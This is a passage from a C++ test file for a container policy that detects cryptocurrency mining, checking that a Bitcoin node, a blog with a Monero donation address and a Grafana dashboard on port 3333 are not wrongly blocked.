            "-port=8333",      "-rpcport=8332",          "-zmqpubrawblock=tcp://0.0.0.0:28332"};
  ExpectClean(c);
}

TEST(TrapTest, DonationAddressInEnvOnlyWarns) {
  TestContainer c;
  c.image = "ghcr.io/example/blog:1.4";
  c.env = {{"DONATE_XMR", kMoneroWallet}, {"PORT", "8080"}};
  ExpectNotDenied(c);
}

TEST(TrapTest, GrafanaOnPort3333WithAWalletDashboard) {
  // Grafana showing a mining dashboard: a wallet label and a web URL on 3333 do not combine,
  // because a web URL is not a pool port.
  TestContainer c;
  c.image = "grafana/grafana:10.2.0";
  c.env = {{"GF_SERVER_ROOT_URL", "https://grafana.example:3333/"}, {"WALLET", kMoneroWallet}};
  ExpectNotDenied(c);
}

}  // namespace
}  // namespace stratum_guard::policy
